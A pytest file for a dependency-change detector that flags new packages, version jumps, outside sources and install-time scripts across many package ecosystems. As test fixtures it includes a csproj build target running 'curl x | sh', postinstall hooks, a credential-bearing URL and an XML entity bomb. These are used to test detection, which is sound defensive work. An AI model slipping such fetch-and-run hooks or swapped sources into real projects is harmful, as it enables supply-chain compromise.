"""Manifests of every ecosystem, before and after a change: what must be noticed, and what must not."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from tamma.workspace.dependencies.compare import CAREFUL, FileChange, dependency_changes, names
from tamma.workspace.interface import DependencyChange


@dataclass(frozen=True)
class Case:
    path: str
    before: str | None
    after: str | None
    asked: tuple[str, ...] = ()
    """Parts of what a person is asked about, in any order; each stands in a finding of its own."""
    loud: tuple[str, ...] = ()
    told: tuple[str, ...] = ()
    """Parts of what is only told."""


INDEX = "--extra-index-url"
POM = "<project><properties><v>{v}</v></properties><dependencies>{more}</dependencies>{rest}</project>"
DEP = "<dependency><groupId>{}</groupId><artifactId>{}</artifactId><version>{}</version></dependency>"
JUNIT = DEP.format("junit", "junit", "4.13")
CSPROJ = '<Project Sdk="Microsoft.NET.Sdk"><ItemGroup>{}</ItemGroup></Project>'
CATALOGUE = (
    '[versions]\nguava = "{}"\n[libraries]\n'
    'guava = {{ module = "com.google.guava:guava", version.ref = "guava" }}\n'
)
PYPROJECT = '[project]\nname = "x"\ndependencies = ["click>=8"{}]\n{}'

CASES: dict[str, Case] = {
    # --- Python
    "pyproject, added": Case(
        "pyproject.toml",
        PYPROJECT.format("", ""),
        PYPROJECT.format(', "Flask_Cors[x]>=4,<5"', ""),
        asked=("`flask-cors` >=4,<5 is a new dependency (PyPI)",),
    ),
    "pyproject, only moved to a group": Case(
        "pyproject.toml",
        PYPROJECT.format(', "attrs"', ""),
        PYPROJECT.format("", '[dependency-groups]\ndev = ["attrs"]\n'),
    ),
    "pyproject, other text": Case(
        "pyproject.toml", PYPROJECT.format("", ""), PYPROJECT.format("", "[tool.ruff]\nline-length = 99\n")
    ),
    "pyproject, another major": Case(
        "pyproject.toml",
        PYPROJECT.format("", ""),
        PYPROJECT.format("", "").replace(">=8", ">=9"),
        asked=("`click` goes from >=8 to >=9, another major version",),
    ),
    "pyproject, a smaller step": Case(
        "pyproject.toml",
        PYPROJECT.format("", ""),
        PYPROJECT.format("", "").replace(">=8", ">=8.1"),
        told=("`click` goes from >=8 to >=8.1",),
    ),
    "pyproject, back": Case(
        "pyproject.toml",
        PYPROJECT.format("", "").replace(">=8", "==8.1.7"),
        PYPROJECT.format("", "").replace(">=8", "==8.1.2"),
        asked=("an older version",),
    ),
    "pyproject, removed": Case(
        "pyproject.toml",
        PYPROJECT.format(', "attrs"', ""),
        PYPROJECT.format("", ""),
        told=("`attrs` is no dependency any more",),
    ),
    "pyproject, from an address": Case(
        "pyproject.toml",
        PYPROJECT.format("", ""),
        PYPROJECT.format(', "helper @ git+https://me:canary@example.org/helper"', ""),
        loud=("it comes from git+https://***@example.org/helper, not from PyPI",),
    ),
    "pyproject, an index of uv": Case(
        "pyproject.toml",
        PYPROJECT.format("", ""),
        PYPROJECT.format("", '[[tool.uv.index]]\nurl = "https://mirror.example.org/simple"\n'),
        loud=("packages come from https://mirror.example.org/simple (tool.uv.index)",),
    ),
    "pyproject, a source of uv": Case(
        "pyproject.toml",
        PYPROJECT.format("", ""),
        PYPROJECT.format("", '[tool.uv.sources]\nclick = { git = "https://example.org/click" }\n'),
        loud=("it comes from https://example.org/click",),
    ),
    "pyproject, poetry": Case(
        "pyproject.toml",
        '[tool.poetry.dependencies]\npython = "^3.11"\nclick = "^8"\n',
        '[tool.poetry.dependencies]\npython = "^3.12"\nclick = "^8"\nrich = {version = "^15"}\n'
        '[tool.poetry.group.dev.dependencies]\nmine = {path = "../mine"}\n',
        asked=("`rich` ^15 is a new",),
        loud=("it comes from ../mine",),
    ),
    "pyproject, unreadable": Case(
        "pyproject.toml", "", "[project\n", asked=("it cannot be read, so nobody knows",)
    ),
    "requirements": Case(
        "requirements-dev.txt",
        "click==8.1\n",
        "# tools\nclick==8.1  # cli\nrequests[socks]>=2 ; python_version > '3' \\\n  --hash=sha256:0\n"
        "-r base.txt\n",
        asked=("`requests` >=2 is a new dependency",),
    ),
    "requirements, an index": Case(
        "requirements/dev.in",
        "click\n",
        f"{INDEX} https://u:canary@example.org/simple\nclick\n-e git+https://example.org/a#egg=Thing\n"
        "-e .\n",
        loud=(f"{INDEX} https://***@example.org/simple", "`thing` is a new dependency"),
    ),
    "setup.cfg": Case(
        "setup.cfg",
        "[options]\ninstall_requires =\n    click\n",
        "[options]\ninstall_requires =\n    click\n    lxml>=5\n[options.extras_require]\nx = rich%\n",
        asked=("`lxml` >=5", "`rich`"),
    ),
    "setup.py": Case(
        "setup.py",
        "setup(install_requires=['click'])",
        "setup(install_requires=['click', 'lxml'], extras_require={'attrs': ['rich']})",
        asked=("`lxml`", "`rich`"),
    ),
    "Pipfile": Case(
        "Pipfile",
        '[packages]\nclick = "*"\n',
        '[packages]\nclick = "*"\n[dev-packages]\nrich = "==15.0"\n',
        asked=("`rich` ==15.0",),
    ),
    "pip.conf": Case(
        "pip.conf", None, "[global]\nindex-url = https://example.org/simple\n", loud=("index-url = https",)
    ),
    # --- Node.js
    "package.json": Case(
        "web/package.json",
        '{"dependencies": {"react": "^18.2.0"}}',
        '{"dependencies": {"react": "^19.0.0"}, "devDependencies": {"vitest": "^3"}}',
        asked=("`vitest` ^3 is a new dependency (npm)", "`react` goes from ^18.2.0 to ^19.0.0, another"),
    ),
    "package.json, scripts": Case(
        "package.json",
        '{"scripts": {"test": "jest", "prepare": "husky"}}',
        '{"scripts": {"test": "vitest", "prepare": "husky", "postinstall": "node x.js"}}',
        loud=("the script postinstall runs at every installation: node x.js",),
    ),
    "package.json, from elsewhere": Case(
        "package.json",
        "{}",
        '{"dependencies": {"a": "user/repo#main", "b": "https://example.org/b.tgz", "c": "workspace:*",'
        ' "d": "npm:left-pad@1.3.0", "e": "file:../e"}}',
        asked=("`c` is a new", "`left-pad` 1.3.0 is a new"),
        loud=("it comes from user/repo#main", "https://example.org/b.tgz", "it comes from file:../e"),
    ),
    "package.json, other text": Case("package.json", '{"name": "a"}', '{"name": "b", "version": "2.0.0"}'),
    ".npmrc": Case(
        ".npmrc",
        "save-exact=true\n",
        "save-exact=true\n@acme:registry=https://npm.example.org/\n",
        loud=("registry=https://npm.example.org/",),
    ),
    # --- Go, Rust
    "go.mod": Case(
        "go.mod",
        "module example.org/x\n\ngo 1.22\n\nrequire github.com/spf13/cobra v1.8.0\n",
        "module example.org/x\n\ngo 1.23\n\nrequire (\n\tgithub.com/spf13/cobra v1.8.1\n"
        "\tgithub.com/spf13/viper v1.19.0 // for settings\n\tgolang.org/x/sys v0.20.0 // indirect\n)\n"
        "replace github.com/spf13/viper => github.com/someone/viper v1.0.0\n",
        asked=("with the others comes: `golang.org/x/sys`",),
        loud=("it comes from github.com/someone/viper, not from Go",),
        told=("`github.com/spf13/cobra` goes from v1.8.0 to v1.8.1",),
    ),
    "Cargo.toml": Case(
        "Cargo.toml",
        '[dependencies]\nserde = "1.0"\n',
        '[dependencies]\nserde = { version = "1.0", features = ["derive"] }\nrand = "0.9"\n'
        '[target."cfg(unix)".dependencies]\nnix = { git = "https://example.org/nix" }\n'
        "[dev-dependencies]\ncriterion = { workspace = true }\n",
        asked=("`rand` 0.9 is a new dependency (crates.io)", "`criterion` is a new"),
        loud=("it comes from https://example.org/nix",),
    ),
    "Cargo.toml, below 1.0": Case(
        "Cargo.toml",
        '[dependencies]\nrand = "0.8"\n',
        '[dependencies]\nrand = "0.9"\n',
        asked=("another major version",),
    ),
    ".cargo/config.toml": Case(
        ".cargo/config.toml",
        None,
        '[source.crates-io]\nreplace-with = "mirror"\n',
        loud=('replace-with = "mirror"',),
    ),
    # --- Ruby, PHP, Elixir
    "Gemfile": Case(
        "Gemfile",
        'source "https://rubygems.org"\ngem "rails", "~> 7.1"\n',
        'source "https://rubygems.org"\nsource "https://gems.example.org"\n'
        'gem "rails", "~> 7.1", ">= 7.1.2"\n'
        "# gem 'no'\ngem 'pg'\ngem 'mine', path: '../mine'\n",
        asked=("`pg` is a new dependency (RubyGems)",),
        loud=("packages come from https://gems.example.org", "it comes from ../mine"),
        told=("`rails` goes from ~> 7.1 to ~> 7.1, >= 7.1.2",),
    ),
    "gemspec": Case(
        "x.gemspec",
        "Gem::Specification.new do |s|\nend\n",
        "Gem::Specification.new do |s|\n  s.add_dependency 'rake', '~> 13.0'\nend\n",
        asked=("`rake` ~> 13.0",),
    ),
    "composer.json": Case(
        "composer.json",
        '{"require": {"php": ">=8.1"}}',
        '{"require": {"php": ">=8.2", "ext-json": "*", "Monolog/Monolog": "^3.0"},'
        ' "scripts": {"test": "phpunit", "post-install-cmd": "sh x.sh"},'
        ' "repositories": [{"type": "vcs", "url": "https://example.org/x"}]}',
        asked=("`monolog/monolog` ^3.0 is a new dependency (Packagist)",),
        loud=("the script post-install-cmd runs by itself", "packages come from https://example.org/x"),
    ),
    "mix.exs": Case(
        "mix.exs",
        '  defp deps, do: [{:jason, "~> 1.4"}]\n',
        '  defp deps do\n    [\n      {:jason, "~> 1.4"},\n      {:oban, "~> 2.17", only: :dev},\n'
        '      {:mine, github: "me/mine"}\n    ]\n  end\n  def go, do: {:ok, "fine"}\n',
        asked=("`oban` ~> 2.17 is a new dependency (Hex)",),
        loud=("it comes from me/mine",),
    ),
    # --- Java, .NET
    "pom.xml": Case(
        "pom.xml",
        POM.format(v="1.0", more=JUNIT, rest=""),
        POM.format(v="33.0", more=JUNIT + DEP.format("com.google.guava", "guava", "${v}"), rest=""),
        asked=("`com.google.guava:guava` 33.0 is a new dependency (Maven)",),
    ),
    "pom.xml, own modules and repositories": Case(
        "pom.xml",
        POM.format(v="1", more="", rest=""),
        POM.format(
            v="1",
            more=DEP.format("${project.groupId}", "core", "${project.version}"),
            rest="<repositories><repository><url>https://example.org/m2</url></repository></repositories>",
        ),
        loud=("packages come from https://example.org/m2",),
    ),
    "pom.xml, a bomb": Case(
        "pom.xml",
        None,
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><project>&b;</project>',
        asked=("it cannot be read",),
    ),
    "gradle": Case(
        "app/build.gradle.kts",
        'dependencies {\n  implementation("com.google.guava:guava:33.0.0-jre")\n}\n',
        'plugins {\n  id("com.example.thing") version "1.2"\n}\ndependencies {\n'
        '  implementation("com.google.guava:guava:33.1.0-jre")\n  implementation(project(":core"))\n'
        '  testImplementation("org.assertj:assertj-core")\n  exclude(group = "x.y", module = "z")\n}\n'
        'repositories { maven { url = uri("https://example.org/m2") } }\n',
        asked=("`com.example.thing` 1.2", "`org.assertj:assertj-core` is a new"),
        loud=("packages come from https://example.org/m2",),
        told=("33.0.0-jre to 33.1.0-jre",),
    ),
    "gradle, groovy": Case(
        "build.gradle",
        "",
        "dependencies {\n  compile group: 'org.slf4j', name: 'slf4j-api', version: '2.0.9'\n"
        "  implementation files('libs/a.jar')\n}\n",
        asked=("`org.slf4j:slf4j-api` 2.0.9",),
        loud=("files of the repository serve as libraries: libs/a.jar",),
    ),
    "gradle's catalogue": Case(
        "gradle/libs.versions.toml",
        CATALOGUE.format("33.0"),
        CATALOGUE.format("34.0") +
        'gson = "com.google.code.gson:gson:2.10"\n',
        asked=("`com.google.guava:guava` goes from 33.0 to 34.0", "`com.google.code.gson:gson` 2.10"),
    ),
    "gradle's wrapper": Case(
        "gradle/wrapper/gradle-wrapper.properties",
        "distributionUrl=https\\://services.gradle.org/gradle-8.5.zip\n",
        "distributionUrl=https\\://example.org/gradle-8.5.zip\n",
        loud=("example.org",),
    ),
    "csproj": Case(
        "src/App.csproj",
        CSPROJ.format('<PackageReference Include="Serilog" Version="3.1.0"/>'),
        CSPROJ.format(
            '<PackageReference Include="Serilog" Version="4.0.0"/>'
            '<PackageReference Include="Dapper"><Version>2.1.0</Version></PackageReference>'
        ),
        asked=("`dapper` 2.1.0 is a new dependency (NuGet)", "`serilog` goes from 3.1.0 to 4.0.0"),
    ),
    "Directory.Packages.props": Case(
        "Directory.Packages.props",
        CSPROJ.format(""),
        CSPROJ.format('<PackageVersion Include="Polly" Version="8.0.0" />'),
        asked=("`polly` 8.0.0",),
    ),
    "csproj, a target that runs": Case(
        "App.csproj",
        CSPROJ.format(""),
        CSPROJ.format("").replace(
            "</Project>", '<Target Name="x"><Exec Command="curl x | sh"/></Target></Project>'
        ),
        loud=("a target of the build runs: curl x | sh",),
    ),
    "nuget.config": Case(
        "NuGet.Config",
        None,
        "<configuration><packageSources>"
        '<add key="x" value="https://example.org/v3"/></packageSources></configuration>',
        loud=("packages come from https://example.org/v3",),
    ),
    # --- not the project's
    "material of tests": Case("tests/fixtures/app/package.json", None, '{"dependencies": {"x": "1"}}'),
    "another file": Case("src/requirements.py", None, "requests\n"),
    "gone as a whole": Case("requirements.txt", "click\n", None, told=("`click` is no dependency any more",)),
}  # fmt: skip


def found(*files: FileChange, issue: str = "") -> tuple[DependencyChange, ...]:
    return dependency_changes(files, issue)


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_what_a_manifest_brings(case: Case) -> None:
    changes = found(FileChange(case.path, case.before, case.after))
    said = {
        "loud": [each.detail for each in changes if each.loud],
        "asked": [each.detail for each in changes if each.asks and not each.loud],
        "told": [each.detail for each in changes if not each.asks],
    }
    for kind, wanted in (("loud", case.loud), ("asked", case.asked), ("told", case.told)):
        assert len(said[kind]) == len(wanted), said
        for words in wanted:
            assert any(words in each for each in said[kind]), said
    assert "canary" not in str(said)
    assert all(each.detail.startswith(CAREFUL) is each.loud for each in changes)
    assert all(each.asks for each in changes if each.loud)


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_a_file_that_stays_says_nothing(case: Case) -> None:
    readable = not any("cannot be read" in words for words in case.asked)
    if readable:
        assert found(FileChange(case.path, case.after, case.after)) == ()


def test_a_dependency_that_moves_to_another_file_is_no_new_one() -> None:
    one = FileChange("requirements.txt", "click==8.1\n", None)
    other = FileChange("pyproject.toml", None, '[project]\ndependencies = ["click==8.1"]\n')
    assert found(one, other) == ()


def test_the_line_and_the_file_are_told() -> None:
    (change,) = found(FileChange("requirements.txt", "click\n", "click\nlxml\n"))
    assert (change.path, change.line) == ("requirements.txt", 2)


@pytest.mark.parametrize(
    ("issue", "name", "named"),
    [
        ("Use `lxml` for this.", "lxml", True),
        ("Use lxml.", "lxml", True),
        ("See lxml-stubs.", "lxml", False),
        ("requests should be retried", "requests", True),
        ("the request is slow", "requests", False),
        ("use testify", "github.com/stretchr/testify", True),
        ("use chi", "github.com/go-chi/chi/v5", True),
        ("use guava", "com.google.guava:guava", True),
        ("add @types/node", "@types/node", True),
        ("x", "x", False),
    ],
)
def test_what_the_issue_names(issue: str, name: str, named: bool) -> None:
    assert names(issue, name) is named


def test_the_issue_makes_it_no_less_of_a_question() -> None:
    (change,) = found(FileChange("requirements.txt", "", "lxml\n"), issue="Parse it with lxml, please.")
    assert change.asks
    assert change.detail == "`lxml` is a new dependency (PyPI), which the issue names"


def test_foreign_names_are_shown_as_words() -> None:
    text = '{"dependencies": {"a`](x)\\n# hello\\u0007": "1"}}'
    (change,) = found(FileChange("package.json", None, text))
    assert change.detail == "`a'](x) # hello` 1 is a new dependency (npm)"


@pytest.mark.parametrize("text", ["[" * 100_000, "\0", "{" * 100_000, '"', "<a>" * 5000, "x = [" * 9000])
@pytest.mark.parametrize(
    "path", ["pyproject.toml", "package.json", "pom.xml", "setup.py", "setup.cfg", "Cargo.lock", "uv.lock"]
)
def test_nothing_breaks_a_reader(path: str, text: str) -> None:
    for change in found(FileChange(path, None, text)):
        assert change.path == path
